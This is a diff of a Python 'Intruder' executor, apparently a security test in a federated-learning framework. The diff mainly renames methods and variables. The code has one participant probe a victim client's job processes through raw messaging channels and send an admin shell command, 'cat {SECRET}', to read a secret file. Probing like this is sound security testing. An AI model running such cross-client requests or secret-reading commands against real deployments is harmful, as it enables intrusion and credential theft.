@@ -40,44 +40,44 @@ class Intruder(executors.AutoFedAvgExecutor):
         if task_name == "local_train" and not self.asked:
             self.asked = True
             model = {"values": torch.zeros(1636), "counters": torch.zeros(0, dtype=torch.int64)}
-            told = self._letters(model, fl_ctx) | self._requests(fl_ctx)
-            for what, said in told.items():
+            replies = self._aux_messages(model, fl_ctx) | self._requests(fl_ctx)
+            for what, said in replies.items():
                 self.log_info(fl_ctx, f"asked {VICTIM} for {what}: {said}")
-            Path(os.environ["AUTOFEDAVG_RUNS"], "asked.json").write_text(json.dumps(told))
+            Path(os.environ["AUTOFEDAVG_RUNS"], "asked.json").write_text(json.dumps(replies))
         return answer
 
-    def _letters(self, model, fl_ctx) -> dict[str, str]:
+    def _aux_messages(self, model, fl_ctx) -> dict[str, str]:
         messages = {
             "hello": Message({}, {}),
             "class_counts": Message({}, {}),
             "evaluate": Message(model, {"split": "train"}),
             "local_train": Message(model, {"t": 1, "T": 3}),
         }
-        told = {}
-        for verb, note in messages.items():
+        replies = {}
+        for verb, asked in messages.items():
             (reply,) = (
                 fl_ctx.get_engine()
                 .send_aux_request(
                     targets=[VICTIM],
                     topic=TOPIC,
-                    request=_letter(verb, note),
+                    request=_aux_message(verb, asked),
                     timeout=9,
                     fl_ctx=fl_ctx,
                 )
                 .values()
             )
-            told[f"the letter {verb}"] = f"{reply.get_return_code()} {sorted(reply)}"
-        return told
+            replies[f"aux {verb}"] = f"{reply.get_return_code()} {sorted(reply)}"
+        return replies
 
     def _requests(self, fl_ctx) -> dict[str, str]:
         """Past FLARE's own functions, to the job's process and to the one it is a child of."""
         cell = fl_ctx.get_engine().get_cell().core_cell
         worker = f"{VICTIM}.{fl_ctx.get_job_id()}"
-        letter = _letter("hello", Message({}, {}))
-        letter.set_peer_props({"who": "me"})
+        aux = _aux_message("hello", Message({}, {}))
+        aux.set_peer_props({"who": "me"})
         show = AdminMessage(SysCommandTopic.SHELL, f"cat {SECRET}")
         asks = {
-            "a request": (worker, CellChannel.AUX_COMMUNICATION, TOPIC, letter),
+            "a request": (worker, CellChannel.AUX_COMMUNICATION, TOPIC, aux),
             "its status": (
                 worker,
                 CellChannel.CLIENT_COMMAND,
@@ -87,18 +87,18 @@ class Intruder(executors.AutoFedAvgExecutor):
             "its neighbours": (worker, "_net_manager", "peers", None),
             "a file": (VICTIM, CellChannel.CLIENT_MAIN, show.topic, show),
         }
-        told = {}
+        replies = {}
         for what, (target, channel, topic, payload) in asks.items():
             reply = cell.send_request(
                 channel, topic, target, CellMessage(payload=payload), timeout=9
             )
             code = reply.get_header(MessageHeaderKey.RETURN_CODE)
             said = getattr(reply.payload, "body", reply.payload)
-            told[what] = f"{code} {reply.get_header(MessageHeaderKey.ERROR)} {said}"
-        return told
+            replies[what] = f"{code} {reply.get_header(MessageHeaderKey.ERROR)} {said}"
+        return replies
 
 
-def _letter(verb: str, note: Message) -> Shareable:
-    message = encode_bytes(note)
+def _aux_message(verb: str, asked: Message) -> Shareable:
+    message = encode_bytes(asked)
     message.set_header(VERB, verb)
     return message
